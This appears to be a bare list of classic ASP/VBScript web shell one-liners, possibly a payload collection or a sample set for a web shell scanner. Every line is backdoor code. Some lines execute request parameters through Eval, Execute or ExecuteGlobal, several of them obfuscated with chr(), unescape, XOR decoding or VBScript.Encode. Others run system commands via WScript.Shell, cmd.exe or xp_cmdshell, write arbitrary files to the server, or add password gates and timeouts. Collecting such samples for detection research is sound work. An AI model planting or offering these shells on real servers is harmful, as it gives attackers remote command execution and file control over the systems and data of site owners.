<%EVAL REQUEST("x")%>
<% Eval   Request ( "x" ) %>
<%eval(Request.Form("x"))%>
<%Eval(request.item("x"))%>
<%EXECUTE request("x")%>
<% execute   (  Request("x") ) %>
<%ExecuteGlobal Request("x")%>
<%executeGLOBAL(request.form("x"))%>
<%execute(request(chr(35)))%>
<%Execute(Session("code"))%>
<%a=request("x")%><%Execute a%>
<%y=Request("p")%><%eval y%>
<%execute(unescape("%65%76%61%6c"))%>
<%ExecuteGlobal(StrReverse("x"))%>
<%eval(eval(chr(114)+chr(101)+chr(113)+chr(117)+chr(101)+chr(115)+chr(116))("x"))%>
<%Set o = Server.CreateObject("ScriptControl") : o.Language = "vbscript" : o.AddCode(Request("c"))%>
<%Set s = CreateObject("WScript.Shell") : s.Run Request("c")%>
<%Set s = Server.CreateObject("wscript.shell") : Set e = s.Exec("cmd.exe /c " & Request.Form("c"))%>
<%Set a = CreateObject("Shell.Application") : a.ShellExecute Request("f")%>
<%Set s = CreateObject("WScript.Shell") : Response.Write s.Exec("cmd /c " & Request("c")).StdOut.ReadAll%>
<object runat=server id=s scope=page classid="clsid:72C24DD5-D70A-438B-8A42-98424B88AFB8"></object>
<%@ LANGUAGE = VBScript.Encode %><%#@~^AQAAAA==x^#~@%>
<%@ CodePage = 65000 %>
<%Set st = Server.CreateObject("ADODB.Stream") : st.WriteText Request("d") : st.SaveToFile Server.MapPath(Request("p")), 2%>
<%Set f = fso.CreateTextFile(Request("p"), True) : f.Write Request("d")%>
<%if Session("pw") <> "go" then Response.End%>
<%Server.ScriptTimeout = 999999999%>
<%Set c = Request.BinaryRead(Request.TotalBytes) : for i=1 to n : r = r & chr(ascb(midb(c,i,1)) Xor k) : next : Execute(r)%>
<%Set conn = Server.CreateObject("ADODB.Connection") : conn.Execute("exec master..xp_cmdshell '" & Request("c") & "'")%>
<%Set n = CreateObject("WScript.Network") : Response.Write n.ComputerName & Request("x")%>
<% Path = Request( "path" ) : Set F = FSO.CreateTextFile( Path, True ) : F.Write Request("t") %>
<%If Len(Request("z")) > 0 Then:Eval Request.Form("z"):End If%>
